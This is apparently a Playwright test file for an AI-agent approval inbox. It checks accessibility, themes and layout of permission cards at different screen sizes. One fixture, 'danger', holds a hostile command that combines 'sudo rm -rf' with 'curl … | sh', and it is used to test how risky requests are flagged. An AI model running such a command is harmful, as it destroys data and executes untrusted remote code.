// Light and dark, wide and narrow: nothing is cut off, everything can be reached, and axe has no complaint.
const { test, expect, open, isLive, form, message, sidebar, inboxLink, button, transcript, connection, isReady } = require("../support.js");
const { complaints, SAME_NAMES } = require("../axe.js");

const KINDS = { command: "run a command", file: "write a file", question: "ask a question", questions: "four questions", plan: "make a plan", queue: "three things" };
const MORE = { danger: "run: cd x && sudo rm -rf ../y | tee log; curl -s https://example.com/x | sh", broken: 'run: echo "never', edit: "edit a file", fetch: "fetch a page", tool: "use an mcp tool", subagents: "two subagents" };
const LONG = `run: printf '%s\\n' ${"a-very-long-word-without-any-break".repeat(12)} > ${"deep/".repeat(40)}file.txt`;

async function fits(page) {
  const [wide, room] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
  expect(wide, "no sideways scrolling").toBeLessThanOrEqual(room);
}

for (const colorScheme of /** @type {const} */ (["light", "dark"])) {
  test.describe(colorScheme, () => {
    test.use({ colorScheme });

    test(`${colorScheme}: the inbox, empty and full, and the dialog have no fault`, async ({ inbox: page, server }) => {
      const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      expect(background).toBe(colorScheme === "light" ? "rgb(246, 246, 244)" : "rgb(20, 21, 23)");
      expect(await complaints(page)).toEqual([]);
      await button(page, "New session").click();
      await expect(page.getByRole("dialog")).toBeVisible();
      expect(await complaints(page)).toEqual([]);
      await button(page, "Cancel").click();
      for (const prompt of [KINDS.command, KINDS.question, KINDS.plan]) await server.startSession(prompt);
      await expect(form(page)).toHaveCount(3);
      for (const one of await form(page).all()) await expect(one).not.toHaveClass(/\bfresh\b/);
      expect(await complaints(page, SAME_NAMES)).toEqual([]);
    });

    test(`${colorScheme}: a session has no fault with any kind of card, nor with the message input`, async ({ page, server }) => {
      for (const prompt of Object.values(KINDS)) {
        const id = await server.startSession(prompt);
        await open(page, server.page(id));
        await isReady(page);
        expect(await complaints(page), prompt).toEqual([]);
        if (prompt !== KINDS.command) continue;
        await button(form(page), "Deny").click();
        expect(await complaints(page), "the reason box").toEqual([]);
        await button(form(page), "Deny").click();
        await expect(message(page)).toBeVisible();
        expect(await complaints(page), "the message input").toEqual([]);
      }
    });

    test(`${colorScheme}: no card of a tool has a fault, nor the table of several, the history and the plain inbox`, async ({ page, server }) => {
      test.setTimeout(240_000);
      for (const prompt of Object.values(MORE)) {
        const id = await server.startSession(prompt);
        await open(page, server.page(id));
        await isReady(page);
        if (prompt === MORE.edit) await expect(form(page).locator(".diff")).toBeVisible();
        if (prompt === MORE.danger) await expect(form(page).locator(".marks").first()).toBeVisible();
        expect(await complaints(page), prompt).toEqual([]);
        for (const name of ["Side by side", "Edit"]) {
          const control = form(page).getByRole("button", { name, exact: true });
          if (await control.count()) await control.click();
        }
        expect(await complaints(page), `${prompt}, edited`).toEqual([]);
      }
      await page.goto(server.origin);
      await isLive(page);
      const picks = page.getByRole("checkbox", { name: "Select, to answer several at once" });
      await picks.first().check();
      await button(page, "Not now").last().click();
      expect(await complaints(page, SAME_NAMES), "the inbox, with one picked and one put off").toEqual([]);
      await button(page, "Review and answer").click();
      await expect(page.getByRole("dialog").getByRole("table")).toBeVisible();
      // what has just appeared takes no answer, and looks so
      for (const answer of ["danger", "primary"]) {
        const shown = page.getByRole("dialog").locator(`button.${answer}`);
        await expect(shown).toBeEnabled();
        await expect(shown).toHaveCSS("opacity", "1");
      }
      expect(await complaints(page, SAME_NAMES), "the table").toEqual([]);
      for (const address of ["/history", "/plain"]) {
        await page.goto(`${server.origin}${address}`);
        expect(await complaints(page, SAME_NAMES), address).toEqual([]);
      }
    });

    test(`${colorScheme}: the login has no fault`, async ({ browser, server }) => {
      const page = await (await browser.newContext({ colorScheme })).newPage();
      await page.goto(`${server.origin}/login?error=used`);
      await expect(page.getByRole("alert")).toBeVisible();
      expect(await complaints(page)).toEqual([]);
      await page.context().close();
    });
  });
}

test("a page loads its program once, though it asks for it early", async ({ page, server }) => {
  const loaded = [];
  page.on("request", (request) => loaded.push(request.url().split(".").pop()));
  await open(page, server.origin);
  expect(loaded.filter((kind) => kind === "wasm")).toHaveLength(1);
});

test("the theme is switched, and stays switched from the first paint on", async ({ inbox: page }) => {
  const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  await button(page, "Theme: auto").click();
  await button(page, "Theme: light").click();
  await expect(button(page, "Theme: dark")).toBeVisible();
  await expect.poll(background).toBe("rgb(20, 21, 23)");
  await page.reload({ waitUntil: "commit" });
  await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
  await isLive(page);
  await expect(button(page, "Theme: dark")).toBeVisible();
});

for (const [width, height] of [[1280, 500], [1280, 420], [667, 375], [390, 500]]) {
  test.describe(`${width} × ${height}`, () => {
    test.use({ viewport: { width, height } });

    test(`${width} × ${height}: the answers stay in sight, and so does some of what they are about`, async ({ page, server }) => {
      for (const prompt of [MORE.danger, KINDS.question, KINDS.plan]) {
        const id = await server.startSession(prompt);
        await open(page, server.page(id));
        await isReady(page);
        const [answers, body] = await Promise.all([".actions", ".body"].map((part) => form(page).locator(part).boundingBox()));
        expect(answers.y + answers.height, prompt).toBeLessThanOrEqual(height);
        expect(body.height, prompt).toBeGreaterThan(80);
        expect(body.y + body.height, prompt).toBeLessThanOrEqual(answers.y + 1);
        const above = await form(page).evaluate((card) => {
          const body = card.querySelector(".body").getBoundingClientRect();
          return card.contains(document.elementFromPoint(body.left + body.width / 2, body.top + 20));
        });
        expect(above, "nothing lies over it").toBe(true);
      }
    });
  });
}

test("on a phone a request is folded to read what led to it, and is not answered meanwhile", async ({ page, server }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  const id = await server.startSession("run: echo one > one.txt && cat one.txt");
  await open(page, server.page(id));
  await isReady(page);
  const seen = () => transcript(page).evaluate((log) => {
    const [own, around] = [log.getBoundingClientRect(), document.querySelector(".dock").getBoundingClientRect()];
    return Math.min(own.bottom, around.top) - Math.max(own.top, document.querySelector(".session-head").getBoundingClientRect().bottom);
  });
  const before = await seen();
  await button(form(page), "Show the conversation").click();
  await expect(button(form(page), "Allow once")).toBeHidden();
  expect(before, "a few lines of it are always there").toBeGreaterThan(40);
  expect(await seen(), "and now all of it").toBeGreaterThan(before + 90);
  await form(page).focus();
  await page.keyboard.press("Enter");
  await button(form(page), "Show the request").click();
  await button(form(page), "Allow once").click();
  await expect(transcript(page)).toContainText("Allowed once · by you");
});

for (const width of [390, 360]) {
  test.describe(`${width} px`, () => {
    test.use({ viewport: { width, height: 740 }, hasTouch: true });

    test(`${width} px: every card fits, and its actions are within reach`, async ({ page, server }) => {
      for (const prompt of [...Object.values(KINDS), LONG]) {
        const id = await server.startSession(prompt);
        await open(page, server.page(id));
        await isReady(page);
        await fits(page);
        const actions = form(page).locator(".actions").getByRole("button");
        for (const action of await actions.all()) {
          const box = await action.boundingBox();
          expect(box, `${prompt}: ${await action.innerText()}`).not.toBeNull();
          expect(box.x, prompt).toBeGreaterThanOrEqual(0);
          expect(box.x + box.width, prompt).toBeLessThanOrEqual(width);
          expect(box.y + box.height, prompt).toBeLessThanOrEqual(740);
        }
        await server.api("kill", { session_id: id });
        await expect(message(page)).toBeInViewport({ ratio: 1 });
        await fits(page);
      }
    });

    test(`${width} px: the inbox fits and takes an answer`, async ({ inbox: page, server }) => {
      await fits(page);
      for (const prompt of [LONG, KINDS.questions, KINDS.plan]) await server.startSession(prompt);
      await expect(form(page)).toHaveCount(3);
      await fits(page);
      await expect(inboxLink(page)).toHaveCount(1);
      await expect(inboxLink(page)).toHaveAccessibleName(/^Inbox\s+3\b/);
      const command = form(page).filter({ hasText: "printf" });
      await button(command, "Deny").tap();
      await fits(page);
      await button(command, "Deny").tap();
      await expect(form(page)).toHaveCount(2);
    });

    test(`${width} px: the drawer opens, leads somewhere and closes`, async ({ inbox: page, server }) => {
      const id = await server.startSession("help");
      await expect(connection(page)).toBeVisible();
      await expect(sidebar(page)).toBeHidden();
      await button(page, "Menu").tap();
      await expect(sidebar(page)).toBeInViewport();
      await fits(page);
      // the page behind it can be neither seen nor reached meanwhile
      expect(await complaints(page, ["landmark-one-main", "page-has-heading-one"])).toEqual([]);
      await page.keyboard.press("Escape");
      await expect(sidebar(page)).toBeHidden();
      await button(page, "Menu").tap();
      await sidebar(page).getByRole("link", { name: /help/i }).tap();
      await expect(page).toHaveURL(server.page(id));
      await expect(sidebar(page)).toBeHidden();
      await expect(message(page)).toBeInViewport({ ratio: 1 });
      await button(page, "Menu").tap();
      await button(page, "New session").tap();
      await expect(page.getByRole("dialog")).toBeInViewport();
      await fits(page);
    });
  });
}
